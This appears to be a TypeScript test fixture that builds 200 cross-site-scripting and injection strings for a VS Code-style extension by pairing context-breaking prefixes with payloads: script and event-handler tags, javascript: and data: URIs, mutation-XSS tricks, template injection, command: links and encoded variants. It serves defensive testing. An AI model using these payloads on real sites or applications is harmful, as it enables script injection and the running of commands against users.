/** What each payload tries to do: it sets a mark on the page, or asks another origin for something. */
const act = "window.owned=1";
const elsewhere = "//elsewhere.test/x";

/** Whole texts that would act by themselves in markup, in Markdown or as an address. */
const acting: readonly string[] = [
  `<script>${act}</script>`,
  `<script src=${elsewhere}></script>`,
  `<img src=x onerror="${act}">`,
  `<img src=${elsewhere}>`,
  `<svg onload=${act}>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><script>${act}</script></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<a href="javascript:${act}">look</a>`,
  `<a href="command:workbench.action.quit">look</a>`,
  `<details open ontoggle=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<body onpageshow=${act}>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<base href=${elsewhere}>`,
  `<link rel=stylesheet href=${elsewhere}>`,
  `<style>*{background:url(${elsewhere})}</style>`,
  `<form action=${elsewhere}><button autofocus>look</button></form>`,
  `<template shadowrootmode=open><img src=x onerror=${act}></template>`,
  `<kept-panel onclick=${act} tabindex=1>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `[look](javascript:${act})`,
  `[look](command:kept.deleteData)`,
  `![look](http:${elsewhere})`,
  `<http:${elsewhere}>`,
  `javascript:${act}`,
  `data:text/html,<script>opener.${act}</script>`,
  `vscode://kept.kept/?${act}`,
  "${window.owned=1}",
  "{{constructor.constructor('window.owned=1')()}}",
  `$(alert) $(bell~spin) ${act}`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `\u202e<script>${act}</script>\u202c`,
];

/** What would first have to end, so that the text is no longer where it was put. */
const endings: readonly string[] = ["", `">`, `'>`, `</title></style></textarea></script>`, `]]>--><`];

/** Two hundred texts as somebody with bad intent would call a file, a tool, a team, or write a prompt. */
export const payloads: readonly string[] = endings.flatMap((ending) => acting.map((text) => ending + text));
